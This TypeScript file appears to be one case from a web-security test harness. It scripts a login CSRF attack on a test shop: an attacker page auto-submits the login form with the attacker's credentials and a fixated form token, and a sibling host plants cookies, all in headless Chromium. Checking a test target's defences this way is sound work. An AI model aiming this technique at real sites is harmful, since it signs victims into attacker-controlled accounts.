/** Login CSRF in a real browser: the victim is signed in, as the attacker. */
import type { Attack } from "../attack.ts";
import {
  attackerOrigins,
  browserShowsCartOf,
  selfPosting,
  tokenIn,
  visit,
  withChromium,
} from "../chromium.ts";
import { Client } from "../client.ts";
import { elsewhere, grace, shopper } from "../people.ts";
import { theftFrom } from "../theft.ts";

export const attack: Attack = {
  title: "Login CSRF",
  story:
    "The victim, signed out, opens a page of the attacker's, on another site or on a sibling host of the shop. The page posts the shop's login form by itself, with the attacker's own email and password, once bare and once with a form token that the attacker was given. Where it works the victim shops in the attacker's account.",
  source: "OWASP CSRF; WSTG-SESS-05; ASVS 3.5.1; CWE-352; Cookie Crumbles (pre-login token fixation)",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["cross-site-not-checked", "form-token-not-checked"],
  target: { tls: true },
  async run(target) {
    await shopper(target, grace);
    const theft = await theftFrom(target);
    const { certificate } = target.front();
    const login = `${target.origins.store}/login`;
    const bare = { email: grace.email, password: grace.password };
    const attacker = new Client(target.origins.store, { ...elsewhere, certificate });
    const token = tokenIn((await attacker.get("/login")).text, "/login");
    await withChromium(target, async (browser) => {
      for (const origin of attackerOrigins(target)) {
        for (const fields of [bare, { ...bare, "form-token": token }]) {
          // The attacker's sibling host may try to plant the cookie that its token belongs to.
          const setCookies = [...attacker.cookies].map(
            ([name, value]) => `${name}=${value}; Domain=company.test; Path=/; Secure`,
          );
          target.front().attackerServes({ html: selfPosting([{ action: login, fields }]), setCookies });
          const context = await browser.newContext();
          await visit(context, origin, 1);
          await theft.attempt(() => browserShowsCartOf(context, target, grace));
          await context.close();
        }
      }
    });
    return theft.measured();
  },
};
